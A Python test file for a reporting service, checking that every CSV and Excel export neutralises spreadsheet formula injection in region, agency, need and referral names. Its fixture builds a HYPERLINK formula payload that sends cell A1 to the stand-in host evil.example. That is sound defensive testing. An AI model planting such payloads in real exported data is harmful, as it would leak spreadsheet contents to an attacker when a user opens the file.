"""No text in a CSV or Excel export is ever a live formula (OWASP CSV injection).

The text arrives as the registry and the other services would publish it, through the broker and the consumer:
region and village names, agency names, need categories and referral statuses that begin with `=`, `+`, `-`,
`@`, a tab or a carriage return. Every export endpoint of the OpenAPI document (every operation whose `format`
takes csv or xlsx) must hold each of them neutralised: a leading `'` in CSV, a string cell (never a formula)
starting with `'` in Excel. A new export endpoint is picked up here by itself, and fails until its text is
covered.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from services.reporting.app import create_app
from services.reporting.settings import ReportingSettings
from services.reporting.tests.factories import Stream, at, previous_month, publish, until_consumed, years_before
from tests.support import tokens

#: Papua (94), which no other test uses.
PROVINCE, REGENCY, DISTRICT = "94", "9401", "940101"
STARTS = ["=", "+", "-", "@", "\t=", "\r="]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def formula(start: str) -> str:
    return f'{start}HYPERLINK("http://evil.example/?a|b"&A1,"klik")'  # (a | too, as in no code)


def short_formula(start: str) -> str:
    """Fits a referral status (12 characters)."""
    return f"{start}1|2"


def _export_paths() -> list[str]:
    def enums(schema: dict[str, Any]) -> Iterator[str]:
        yield from schema.get("enum", [])
        for option in schema.get("anyOf", []) + schema.get("oneOf", []):
            yield from enums(option)

    document = create_app().openapi()
    return sorted(path for path, item in document["paths"].items() for operation in item.values()
                  if any(p["name"] == "format" and {"csv", "xlsx"} <= set(enums(p.get("schema", {})))
                         for p in operation.get("parameters", [])))


EXPORTS = _export_paths()


def test_the_export_endpoints_are_found() -> None:
    assert set(EXPORTS) >= {"/api/v1/indicators", "/api/v1/indicators/needs", "/api/v1/indicators/referrals/timeline",
                            "/api/v1/rankings/villages", "/api/v1/matrix"}


def history() -> tuple[Stream, str]:
    """One village per dangerous start, named with it, each with a household, a need and a referral whose
    category and status begin with it; an agency per start; and a village whose name holds control characters."""
    period, first, last = previous_month()
    s = Stream(default_time=at(first, 8))
    s.region(PROVINCE, formula("="), "province", None)
    s.region(REGENCY, formula("+"), "regency", PROVINCE)
    s.region(DISTRICT, formula("-"), "district", REGENCY)
    for index, start in enumerate(STARTS):
        village = f"{DISTRICT}{1001 + index}"
        s.region(village, formula(start), "village", DISTRICT)
        home = s.household(village)
        s.member(home, years_before(last, 30))
        s.need(home, village, f"kesehatan.{formula(start)}", detected=at(first + timedelta(days=2), 9))
        s.referral(village, f"kesehatan.{formula(start)}", created=at(first, 10), agency_id=None,
                   steps=[(short_formula(start), 5, {})])
        s.agency(REGENCY, ["kesehatan"], name=formula(start))
    s.region(f"{DISTRICT}1099", "Desa\x01Kontrol\x1b", "village", DISTRICT)
    s.household(f"{DISTRICT}1099")
    return s, period


@pytest.fixture(scope="module")
async def papua(reporting: httpx.AsyncClient, reporting_settings: ReportingSettings) -> str:
    stream, period = history()
    await publish(reporting_settings.kafka_bootstrap_servers, stream.events)
    await until_consumed(reporting_settings.database_url, stream.events)
    return period


def _params(path: str, period: str) -> dict[str, str]:
    params = {"region": PROVINCE, "period": period}
    if path in ("/api/v1/indicators", "/api/v1/indicators/needs"):
        params["by"] = "village"
    if path == "/api/v1/spm/matrix":  # by SPM year (this one by default); the district's villages as columns
        params = {"region": DISTRICT}
    return params


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]


@pytest.mark.parametrize("path", EXPORTS)
@pytest.mark.parametrize("role", ["admin", "pembina"])
async def test_every_text_cell_of_every_export_is_neutralised(reporting: httpx.AsyncClient, papua: str, path: str,
                                                              role: str) -> None:
    headers = tokens.admin() if role == "admin" else tokens.pembina(PROVINCE)
    csv_response = await reporting.get(path, params={**_params(path, papua), "format": "csv"}, headers=headers)
    assert csv_response.status_code == 200, csv_response.text
    cells = _csv_cells(csv_response.content)
    assert not [c for c in cells if c.startswith(DANGEROUS)], path
    texts = [c for c in cells if c.startswith("'")]
    for start in STARTS:  # each start reached this export, and came out neutralised
        assert any(t.startswith("'" + start) for t in texts), (path, start)

    xlsx_response = await reporting.get(path, params={**_params(path, papua), "format": "xlsx"}, headers=headers)
    assert xlsx_response.status_code == 200, xlsx_response.text
    values = []
    for row in (r for sheet in load_workbook(io.BytesIO(xlsx_response.content)).worksheets for r in sheet.iter_rows()):
        for cell in row:
            assert cell.data_type != "f", (path, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith(DANGEROUS), (path, cell.value)
                values.append(cell.value)
    for start in STARTS:  # (XML reads a carriage return back as a line feed)
        assert any(v.startswith(("'" + start).replace("\r", "\n")) for v in values), (path, start)
    with zipfile.ZipFile(io.BytesIO(xlsx_response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


async def test_control_characters_in_a_name_do_not_break_the_excel_export(reporting: httpx.AsyncClient,
                                                                          papua: str) -> None:
    params = {"region": PROVINCE, "period": papua, "by": "village"}
    csv_rows = _csv_cells((await reporting.get("/api/v1/indicators", params={**params, "format": "csv"},
                                               headers=tokens.admin())).content)
    assert "Desa\x01Kontrol\x1b" in csv_rows  # CSV holds any character
    response = await reporting.get("/api/v1/indicators", params={**params, "format": "xlsx"},
                                   headers=tokens.admin())
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    names = [row[1] for row in sheet.iter_rows(values_only=True)]
    assert "Desa\ufffdKontrol\ufffd" in names  # what Excel cannot hold is replaced, visibly
